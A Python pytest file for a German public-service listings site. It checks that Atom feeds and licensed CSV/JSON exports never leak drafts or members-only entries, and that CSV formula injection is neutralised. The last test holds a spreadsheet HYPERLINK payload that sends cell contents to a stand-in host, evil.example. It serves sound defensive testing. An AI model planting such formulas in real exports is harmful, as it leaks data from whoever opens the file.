"""Atom feeds and CSV/JSON exports: valid, licensed, and never leaking drafts or members-only listings."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest

from . import factories as f

ATOM = "{http://www.w3.org/2005/Atom}"


@pytest.fixture
def world(session):
    """Public, members-only and draft listings in the ANDI network."""
    andi = f.network(session, "andi", f.FREIBURG, f.MANNHEIM)
    owner = f.user(session, "officer", f.FREIBURG, email="owner@example.org")
    other = f.user(session, "officer", f.MANNHEIM, email="member@example.org")
    coord = f.user(session, "coordinator", f.KARLSRUHE, [andi])
    public = f.listing(session, owner, publish_by=coord, title="Oeffentlicher Dienst")
    members = f.listing(session, owner, publish_by=coord, title="Nur Mitglieder", visibility="network")
    draft = f.listing(session, owner, title="Geheimer Entwurf")
    other_public = f.listing(session, other, publish_by=coord, title="Gewerbe online", ozg_ids=[10294], leika_keys=[])
    return {"public": public, "members": members, "draft": draft, "other_public": other_public, "owner": owner}


def entry_titles(resp) -> list[str]:
    """Parse an Atom response and return its entry titles."""
    assert resp.headers["Content-Type"].startswith("application/atom+xml")
    root = ET.fromstring(resp.data)
    assert root.tag == f"{ATOM}feed" and root.find(f"{ATOM}updated") is not None
    return [e.find(f"{ATOM}title").text for e in root.findall(f"{ATOM}entry")]


def test_all_listings_feed_shows_only_public_published(client, world):
    """The anonymous feed carries public published listings only."""
    titles = " ".join(entry_titles(client.get("/feeds/eintraege.atom")))
    assert "Oeffentlicher Dienst" in titles and "Gewerbe online" in titles
    assert "Nur Mitglieder" not in titles and "Geheimer Entwurf" not in titles


def test_members_see_network_listings_in_feed(client, auth, world):
    """A signed-in network member also sees members-only listings, but never drafts."""
    auth.login("member@example.org")
    titles = " ".join(entry_titles(client.get("/feeds/eintraege.atom")))
    assert "Nur Mitglieder" in titles and "Geheimer Entwurf" not in titles


def test_network_and_ozg_feeds_filter(client, world):
    """Per-network and per-OZG feeds contain only their listings."""
    titles = entry_titles(client.get("/feeds/ozg/10294.atom"))
    assert len(titles) == 1 and "Gewerbe online" in titles[0]
    titles = " ".join(entry_titles(client.get("/feeds/netzwerk/andi.atom")))
    assert "Oeffentlicher Dienst" in titles and "Nur Mitglieder" not in titles
    assert client.get("/feeds/netzwerk/gibts-nicht.atom").status_code == 404
    assert client.get("/feeds/ozg/1.atom").status_code == 404


def test_status_feed_of_a_listing(client, session, world):
    """A listing's status feed lists its status updates; hidden listings are 404."""
    from marktplatz.services import listings

    listings.post_status_update(session, world["owner"], world["public"], {"title": "Jetzt mit Online-Ausweis"})
    assert entry_titles(client.get(f"/eintraege/{world['public'].slug}/status.atom")) == ["Jetzt mit Online-Ausweis"]
    assert client.get(f"/eintraege/{world['draft'].slug}/status.atom").status_code == 404
    assert client.get(f"/eintraege/{world['members'].slug}/status.atom").status_code == 404


@pytest.mark.parametrize("signed_in", [False, True])
def test_csv_export_has_licence_and_only_public_published(client, auth, world, signed_in):
    """The CSV export states dl-de/by-2-0 and holds public published listings, even for members."""
    if signed_in:
        auth.login("owner@example.org")
    resp = client.get("/export/eintraege.csv")
    assert resp.status_code == 200 and resp.headers["Content-Type"].startswith("text/csv")
    assert '<https://www.govdata.de/dl-de/by-2-0>; rel="license"' in resp.headers["Link"]
    text = resp.get_data(as_text=True).lstrip("\ufeff")
    assert text.startswith("id;url;art;titel;")  # the first row is the header, no comment line
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    titles = {r["titel"] for r in rows}
    assert titles == {"Oeffentlicher Dienst", "Gewerbe online"}
    row = next(r for r in rows if r["titel"] == "Oeffentlicher Dienst")
    assert row["ozg_ids"] == "10160" and row["ags"] == f.FREIBURG


def test_json_export_has_licence_and_only_public_published(client, auth, world):
    """The JSON export states the licence and excludes drafts and members-only listings."""
    auth.login("member@example.org")
    body = json.loads(client.get("/export/eintraege.json").data)
    assert body["lizenz"] == "dl-de/by-2-0" and "Namensnennung" in body["namensnennung"]
    titles = {e["titel"] for e in body["eintraege"]}
    assert titles == {"Oeffentlicher Dienst", "Gewerbe online"} and body["anzahl"] == 2


def test_open_data_page_links_everything(client, world):
    """The open-data page links the exports and the feeds."""
    html = client.get("/offene-daten").get_data(as_text=True)
    for href in ("/export/eintraege.csv", "/export/eintraege.json", "/feeds/eintraege.atom", "/feeds/netzwerk/andi.atom"):
        assert href in html


# Page and form behaviour does not depend on the database; the database tests run on both.
pytestmark = pytest.mark.sqlite_only


def test_csv_export_neutralises_formulas(client, session):
    """Text cells a spreadsheet would run as a formula (=, +, -, @, tab, CR) start with a ' instead."""
    owner = f.user(session, "officer", f.FREIBURG)
    coord = f.user(session, "coordinator", f.KARLSRUHE, [f.network(session, "andi", f.FREIBURG)])
    evil = '=HYPERLINK("http://evil.example/?"&A1;"Klick")'
    f.listing(session, owner, publish_by=coord, title=evil, summary="@SUM(1+1) Hunde online anmelden, ohne Termin.")
    f.listing(session, owner, publish_by=coord, title="-2+3 Gewerbe online")
    f.listing(session, owner, publish_by=coord, title="Normaler Titel")
    text = client.get("/export/eintraege.csv").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(text), delimiter=";"))
    titles = {r["titel"] for r in rows}
    assert titles == {"'" + evil, "'-2+3 Gewerbe online", "Normaler Titel"}
    assert "'@SUM(1+1) Hunde online anmelden, ohne Termin." in {v for r in rows for v in r.values()}
    for row in rows:
        for column, value in row.items():
            assert not (value or "").startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
